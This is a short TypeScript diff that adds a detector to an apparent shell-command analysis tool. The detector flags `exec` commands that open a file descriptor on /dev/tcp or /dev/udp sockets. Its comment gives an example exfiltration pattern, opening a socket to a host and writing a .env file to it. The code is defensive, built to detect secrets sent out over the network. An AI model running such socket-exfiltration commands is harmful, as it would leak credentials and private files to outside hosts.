@@ -135,3 +135,25 @@ function archiveName(inv: Invocation): string | undefined {
   }
   return inv.args.find((a) => !a.startsWith("-") && !(inv.name.startsWith("7") && (a === "a" || a === "u")));
 }
+
+/**
+ * `exec 3<>/dev/tcp/host/80`: the descriptor a command opens on a network socket, as `[fd,
+ * socket path]`. What later commands write to it (`cat .env >&3`) goes to that socket, and the
+ * analysis reads them again with the socket named (see expansions.ts).
+ */
+export function openedSocket(inv: Invocation): readonly [string, string] | undefined {
+  if (inv.words[0] !== "exec") return undefined;
+  for (const r of inv.redirects) {
+    if (
+      /^[0-9]$/.test(r.fd) &&
+      (r.op === "<>" || r.op === ">" || r.op === ">>") &&
+      isSocketPath(r.target.text)
+    )
+      return [r.fd, r.target.text];
+  }
+  return undefined;
+}
+
+function isSocketPath(path: string): boolean {
+  return path.startsWith("/dev/tcp/") || path.startsWith("/dev/udp/");
+}
